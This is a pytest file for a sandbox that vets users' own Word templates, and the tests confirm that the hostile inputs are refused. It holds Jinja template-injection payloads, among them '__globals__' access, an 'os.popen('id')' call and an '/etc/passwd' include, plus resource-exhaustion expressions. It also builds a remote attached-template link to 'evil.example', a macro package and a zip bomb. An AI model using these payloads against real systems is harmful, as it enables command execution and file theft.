"""A programme's own template is let in when it is safe and understood, and what it wants to do otherwise is refused."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from core.content.agreement import Section
from core.documents.example import SIGNED
from core.documents.sandbox import environment
from core.documents.standard import standard_template
from core.documents.template import MAX_BYTES, TemplateRefusedError, checked, text_of
from core.documents.word import word_document
from tests.core.documents.drafts import draft

WHOLE = (
    "{%p for part in parts %}",
    "{{ part.title }} {{ part.version }} {{ part.note }}",
    "{%p for party in part.parties %}",
    "{{ party.name }} {{ party.place }}",
    "{%p endfor %}",
    "{%p for section in part.sections %}",
    "{{ section.heading }}: {{ section.text }}",
    "{%p endfor %}",
    "{%p for signature in part.signatures %}",
    "{{ signature.party }}: {{ signature.name }}, {{ signature.position }}, {{ signature.date }}",
    "{%p endfor %}",
    "{%p endfor %}",
)


def template(*paragraphs: str, footer: str = "", title: str = "") -> bytes:
    """A Word document of these paragraphs."""
    document = docx.Document()
    for each in paragraphs:
        document.add_paragraph(each)
    document.sections[0].footer.paragraphs[0].text = footer
    document.core_properties.title = title
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def with_files(content: bytes, **files: str) -> bytes:
    """The package with these files more, or instead."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            if name not in files:
                new.writestr(name, old.read(name))
        for name, text in files.items():
            new.writestr(name, text)
    return made.getvalue()


def refused(content: bytes) -> str:
    with pytest.raises(TemplateRefusedError) as caught:
        checked(content)
    return "\n".join(caught.value.lines)


def test_the_standard_layout_is_a_template_that_shows_everything() -> None:
    assert checked(standard_template()).absent == ()


def test_a_template_of_ones_own_is_filled_in() -> None:
    own = checked(template("Our own words.", *WHOLE, footer="{{ footing }}, {{ version }}")).content
    text = text_of(word_document(draft({Section.PURPOSE: "For the children."}), own))
    assert "Our own words." in text
    assert "Purpose: For the children." in text
    assert "LIB-014 · LIB-022, 3" in text
    assert word_document(SIGNED, own) == word_document(SIGNED, own)


def test_what_it_does_not_show_is_named() -> None:
    assert checked(template(*WHOLE)).absent == ()
    assert checked(template(*(each for each in WHOLE if "part.title" not in each))).absent == (
        "A starting draft, not legal advice (English)",
        "Version 3, 20 November 2026 (English)",
        "A starting draft, not legal advice (Arabic)",
        "النسخة 3، 20 نوفمبر 2026 (Arabic)",
    )
    absent = checked(template("{{ parts[0].section.purpose.text }}")).absent
    assert "Money (English)" in absent
    assert "Purpose (Arabic)" in absent
    assert "Purpose (English)" not in absent
    assert "Signatures (English)" in absent


def test_names_that_there_are_not_are_named() -> None:
    said = refused(template("{{ parts[0].title }} {{ librray }}", footer="{{ purpose }}"))
    assert said.startswith("The template names what there is not: librray, purpose.")
    assert "There are: footing, parts, version." in said
    assert "has no attribute 'titel'" in refused(template("{{ parts[0].titel }}"))


def test_what_only_the_long_form_has_is_asked_for_first() -> None:
    said = refused(template("{{ parts[0].section.money.text }}"))
    assert said == "The template cannot be filled in with the short form: 'dict object' has no attribute 'money'"
    careful = "{% if parts[0].section.money is defined %}{{ parts[0].section.money.text }}{% endif %}"
    assert "Money (English)" not in checked(template(careful)).absent


@pytest.mark.parametrize(
    "trick",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ parts.__class__ }}",
        "{{ parts['__class__'] }}",
        "{{ parts[0]['_' ~ '_class_' ~ '_'] }}",
        "{{ parts|attr('__class__') }}",
        "{{ version.__init__.__globals__ }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ cycler.__init__ }}",
        "{{ self.__init__ }}",
        "{{ parts.append(1) }}",
        "{{ parts[0].title.format(parts) }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% from 'os' import path %}",
        "{% extends 'x' %}",
        "{% macro x() %}{% endmacro %}",
        "{% autoescape false %}{{ parts[0].title }}{% endautoescape %}",
        "{{ parts[0].title|safe }}",
        "{{ 'x' * 999999999 }}",
        "{{ 9 ** 99999999 }}",
        "{{ '%999999999d' % 1 }}",
        "{% for x in range(99999999) %}{% endfor %}",
        "{% if false %}{{ parts.__class__ }}{% endif %}",
        "{% for x in %}",
        "{{ parts",
        "{% do parts %}",
    ],
)
def test_tricks_are_refused_wherever_they_stand(trick: str) -> None:
    for content in (template(trick), template("fine", footer=trick)):
        assert refused(content)


def test_tags_in_the_properties_are_never_run() -> None:
    own = checked(template(*WHOLE, title="{{ 7 * 7 }}{{ nothing.at.all }}")).content
    opened = docx.Document(io.BytesIO(word_document(draft(), own)))
    assert opened.core_properties.title == "Sister libraries agreement"


def test_values_stay_text_in_a_template_of_ones_own() -> None:
    own = checked(template(*WHOLE)).content
    written = "<w:p/> & {{ 7 * 7 }} {_{ x }_} %} ]]>"
    assert f"Purpose: {written}" in text_of(word_document(draft({Section.PURPOSE: written}), own))


def test_what_is_no_word_document_is_refused() -> None:
    assert refused(b"") == refused(b"%PDF-1.7") == "This is no Word document (.docx)."
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
    assert refused(empty.getvalue()) == "This is no Word document (.docx)."
    assert f"{MAX_BYTES:,}" in refused(b"x" * (MAX_BYTES + 1))


def test_macros_and_what_is_fetched_from_elsewhere_are_refused() -> None:
    plain = template(*WHOLE)
    assert "macros" in refused(with_files(plain, **{"word/vbaProject.bin": "x"}))
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert "https://evil.example/t.dotm" in refused(with_files(plain, **{"word/_rels/settings.xml.rels": links}))


def test_a_file_that_grows_when_it_is_unpacked_is_refused() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", b"0" * (40 * 1024 * 1024))
    assert refused(made.getvalue()) == "Unpacked, the file is too large for a template."


def test_the_sandbox_has_nothing_to_reach_out_with() -> None:
    assert environment().globals == {}
    assert environment().autoescape
    assert not {"attr", "safe", "format", "map", "tojson", "xmlattr"} & set(environment().filters)
